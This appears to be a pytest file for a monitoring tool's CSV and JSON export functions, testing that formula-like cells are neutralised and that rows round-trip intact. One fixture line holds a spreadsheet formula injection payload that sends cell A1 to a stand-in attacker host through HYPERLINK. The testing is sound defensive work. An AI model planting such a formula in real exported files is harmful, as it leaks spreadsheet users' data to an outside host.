"""What programs are given: cells that no spreadsheet computes, lines of JSON."""

import csv
import io
import json

import pytest

from monitor.notify.table import Columns, as_csv, as_json, as_jsonl, harmless

COLUMNS: Columns[tuple[str, float]] = Columns(
    fields=[("name", lambda i: i[0]), ("sum", lambda i: i[1])],
    record=lambda i: {"name": i[0], "sum": i[1]},
)
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.fault(no=46)
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d"])
def test_what_begins_like_a_formula_is_text(sign: str) -> None:
    """If it fails, a headline runs as a formula on the machine of whoever opens it."""
    cell = harmless(f"{sign}1+1")

    assert isinstance(cell, str)
    assert cell.startswith("'")


def test_a_number_stays_a_number() -> None:
    """If it fails, a column of changes cannot be summed."""
    assert harmless(-1.5) == -1.5
    assert harmless(None) == ""
    assert harmless(("Dy", "Tb")) == "Dy,Tb"


@pytest.mark.fault(no=46)
def test_a_table_is_read_back_as_it_was() -> None:
    """If it fails, a comma or a quotation mark moves a headline into the next column."""
    rows = [('said, "no"\nthen', 0.5), (ATTACK, 2)]

    read = list(csv.reader(io.StringIO(as_csv(rows, COLUMNS), newline="")))

    assert read == [
        ["name", "sum"],
        ['said, "no" then', "0.5"],
        [f"'{ATTACK}", "2"],
    ]


def test_each_line_of_json_is_one_thing() -> None:
    """If it fails, a program that reads line by line stops at the first."""
    text = as_jsonl([("a\u2028b\nc", 1.0), ("d", 2.0)], COLUMNS)

    assert [json.loads(line) for line in text.rstrip("\n").split("\n")] == [
        {"name": "a\u2028b\nc", "sum": 1.0},
        {"name": "d", "sum": 2.0},
    ]
    assert json.loads(as_json([("a\u2028b\nc", 1.0)], COLUMNS))[0]["sum"] == 1.0
    assert as_json([], COLUMNS) == "[]\n"
